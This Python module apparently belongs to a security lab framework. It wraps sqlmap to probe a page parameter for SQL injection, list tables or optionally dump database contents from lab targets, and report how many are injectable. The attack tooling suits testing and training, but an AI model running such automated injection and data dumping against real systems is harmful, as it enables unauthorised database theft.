"""sqlmap: looks for SQL injection in one parameter of a page, and takes what it finds.

Options: `path` (/product?id=1), `parameter` (id), `level` (1), `risk` (1), `technique` (BEU), `threads` (1), `delay_s`
(0), `for_s` (as long as the activity), `dump` (false).
"""

from __future__ import annotations

from netwarden.lab.attacks import targets
from netwarden.lab.play import Part, enter

PACKAGES = ("sqlmap",)


def main() -> None:
    part = enter()
    injectable = 0
    for address in targets.addresses(part):
        ran = part.tool(command(part, address), part.options.get("for_s"))
        injectable += "identified the following injection point" in ran.output
    part.report(injectable=injectable)


def command(part: Part, address: str) -> list[str]:
    options = part.options
    url, scratch = targets.url(part, address, options.get("path", "/product?id=1")), str(part.folder)
    words = ["sqlmap", "-u", url, "-p", options.get("parameter", "id"), "--dbms", "sqlite", "--batch", "--random-agent"]
    words += ["--disable-coloring", "--output-dir", scratch, "--tmp-dir", scratch]
    words += ["--level", str(options.get("level", 1)), "--risk", str(options.get("risk", 1))]
    words += ["--technique", options.get("technique", "BEU"), "--timeout", "5", "--retries", "0"]
    words += ["--threads", str(options.get("threads", 1)), "--delay", str(options.get("delay_s", 0))]
    return words + (["--dump"] if options.get("dump") else ["--tables"])


if __name__ == "__main__":
    main()
